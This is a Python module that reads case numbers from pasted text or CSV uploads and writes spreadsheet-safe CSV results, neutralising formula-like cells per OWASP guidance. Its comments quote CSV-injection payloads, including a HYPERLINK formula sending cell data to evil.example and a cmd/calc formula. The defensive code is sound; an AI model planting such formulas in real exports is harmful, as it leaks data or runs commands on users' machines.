"""The bulk page's input and output: case numbers from pasted text or an uploaded CSV file,
and the results as a CSV file that is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Sequence
from dataclasses import dataclass

from gateway.messages import message

__all__ = ["MAX_INPUT_BYTES", "MAX_TABLE_CHARS", "BulkInputError", "Numbers", "csv_bytes",
           "neutralised", "numbers_from_csv", "numbers_from_text", "table_from_json"]

# 100 numbers of at most 64 characters fit ten times over; anything larger is refused before
# it is decoded or parsed.
MAX_INPUT_BYTES = 64 * 1024
# The results table the download form carries back (header and up to 100 rows, each cell
# at most _MAX_CELL characters): checked before the JSON is parsed.
MAX_TABLE_CHARS = 192 * 1024
_MAX_CELL = 2048
_MAX_ROWS = 101
# Pasted numbers are separated by line breaks, commas, semicolons, spaces or tabs.
_SEPARATORS = re.compile(r"[\s,;]+")
# A header cell naming the column of case numbers (English or Spanish).
_NUMBER_HEADER = re.compile(r"number|n[uú]mero|case|caso|receipt|recibo", re.IGNORECASE)
# Spreadsheets run a cell that begins with one of these as a formula (=HYPERLINK(...),
# +cmd|'/c calc'!A1, @SUM(...)); tab and carriage return can hide such a start. OWASP's CSV
# injection guidance: prefix the cell with a single quote, so it is shown as text.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class BulkInputError(Exception):
    """What was wrong with the numbers given, in the page's language (``status``: the HTTP
    status to answer with)."""

    def __init__(self, text: str, status: int = 400) -> None:
        super().__init__(text)
        self.text = text
        self.status = status


@dataclass(frozen=True, slots=True)
class Numbers:
    """The case numbers read, in the order given, and the CSV header row skipped (if any)."""

    numbers: list[str]
    header: list[str] | None = None


def _too_large(language: str, size: int) -> BulkInputError:
    return BulkInputError(message(
        language, "The list has {size} bytes; at most {limit} bytes can be checked at once. "
                  "Check fewer numbers at a time.", size=size, limit=MAX_INPUT_BYTES), 413)


def numbers_from_text(text: str, language: str) -> Numbers:
    """The numbers in pasted ``text``: one per line, or separated by commas or spaces."""
    size = len(text.encode("utf-8", "surrogatepass"))
    if size > MAX_INPUT_BYTES:
        raise _too_large(language, size)
    return Numbers([n for n in _SEPARATORS.split(text) if n])


def numbers_from_csv(data: bytes, language: str) -> Numbers:
    """The numbers in one column of a CSV file, with or without a header row.

    The first row is a header when none of its cells has a digit (every case number has
    some); its column is the one whose header names a number (else the first). Without a
    header, the column is the first whose first cell has a digit, so a file of client names
    and case numbers works too. Empty cells are skipped."""
    if len(data) > MAX_INPUT_BYTES:
        raise _too_large(language, len(data))
    try:
        # utf-8-sig: spreadsheets save "CSV UTF-8" with a byte order mark.
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise BulkInputError(message(
            language, "The file is not UTF-8 text (byte {position} is not); save it as "
                      "\"CSV UTF-8\" and upload it again.", position=exc.start + 1)) from exc
    try:
        rows = [[cell.strip() for cell in row]
                # strict: a stray quote is refused in words rather than read as a guess.
                for row in csv.reader(io.StringIO(text, newline=""), _dialect(text),
                                      strict=True)]
    except csv.Error as exc:
        raise BulkInputError(message(
            language, "The file could not be read as CSV ({error}); save it as \"CSV UTF-8\" "
                      "with the case numbers in one column.", error=str(exc))) from exc
    rows = [row for row in rows if any(row)]
    if not rows:
        return Numbers([])
    header: list[str] | None = None
    if not any(_has_digit(cell) for cell in rows[0]):
        header = rows.pop(0)
        column = next((i for i, cell in enumerate(header) if _NUMBER_HEADER.search(cell)), 0)
    else:
        column = next(i for i, cell in enumerate(rows[0]) if _has_digit(cell))
    numbers = [row[column] for row in rows if column < len(row) and row[column]]
    return Numbers(numbers, header)


def _has_digit(cell: str) -> bool:
    return any(c.isdigit() for c in cell)


def _dialect(text: str) -> type[csv.Dialect]:
    """Commas, or the semicolons or tabs spreadsheets write in some locales (Spanish ones use
    semicolons); a file with one column has none, and is read as plain CSV."""
    try:
        return csv.Sniffer().sniff(text[:4096], delimiters=",;\t")
    except csv.Error:
        return csv.excel


def neutralised(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: prefixed with a single quote when it
    begins like a formula (see _FORMULA_START)."""
    return "'" + cell if cell.startswith(_FORMULA_START) else cell


def csv_bytes(table: Sequence[Sequence[str]]) -> bytes:
    """``table`` (its header row first) as a UTF-8 CSV file, every cell neutralised and
    quoted.

    Lawyers open these files in spreadsheets, and the cells hold text from outside Caseline
    (numbers someone typed, agencies' status wording): a cell such as
    ``=HYPERLINK("http://evil.example/?"&A1)`` would run as a formula there. The byte order
    mark makes Excel read the file as UTF-8 (without it, "número" comes out garbled)."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    for row in table:
        writer.writerow([neutralised(cell) for cell in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8", "surrogatepass")


def table_from_json(text: str) -> list[list[str]] | None:
    """The results table a download form sent back, or None when it is not one: at most
    101 rows (a header and 100 results) of strings, all as long as the header."""
    if len(text) > MAX_TABLE_CHARS:
        return None
    try:
        table = json.loads(text)
    except ValueError:
        return None
    if not (isinstance(table, list) and 0 < len(table) <= _MAX_ROWS):
        return None
    width = len(table[0]) if isinstance(table[0], list) else 0
    for row in table:
        if not (isinstance(row, list) and len(row) == width > 0
                and all(isinstance(c, str) and len(c) <= _MAX_CELL for c in row)):
            return None
    return table
